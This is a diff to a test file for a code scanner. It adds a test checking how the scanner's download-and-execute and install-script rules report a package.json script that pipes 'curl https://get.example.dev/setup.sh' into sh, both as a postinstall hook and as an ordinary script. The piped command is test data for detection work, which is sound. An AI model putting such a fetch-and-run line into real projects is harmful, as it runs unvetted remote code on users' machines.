@@ -55,6 +55,16 @@ describe('files/download-and-execute', () => {
     assert.deepEqual(ofRule(await diffFile('.github/workflows/ci.yml', withPipe, moreSteps), 'files/download-and-execute'), []);
   });
 
+  it('leaves a package.json install hook to dependencies/install-script, but reports the same download in an ordinary script', async () => {
+    const before = JSON.stringify({ name: 'api', version: '1.0.0', scripts: { test: 'node --test' } }, null, 2) + '\n';
+    const withHook = JSON.stringify({ name: 'api', version: '1.0.0', scripts: { test: 'node --test', postinstall: 'curl -fsSL https://get.example.dev/setup.sh | sh' } }, null, 2) + '\n';
+    const hookFindings = await diffFile('package.json', before, withHook);
+    assert.deepEqual(ofRule(hookFindings, 'files/download-and-execute'), []);
+    assert.equal(ofRule(hookFindings, 'dependencies/install-script').length, 1, 'the hook is still reported once, by the rule that names it');
+    const withScript = JSON.stringify({ name: 'api', version: '1.0.0', scripts: { test: 'node --test', bootstrap: 'curl -fsSL https://get.example.dev/setup.sh | sh' } }, null, 2) + '\n';
+    assert.equal(ofRule(await diffFile('package.json', before, withScript), 'files/download-and-execute').length, 1);
+  });
+
   it('stays fast on a hostile line of curl words and pipes', async () => {
     const hostile = `run: ${'curl |'.repeat(40_000)}\n`;
     const started = performance.now();
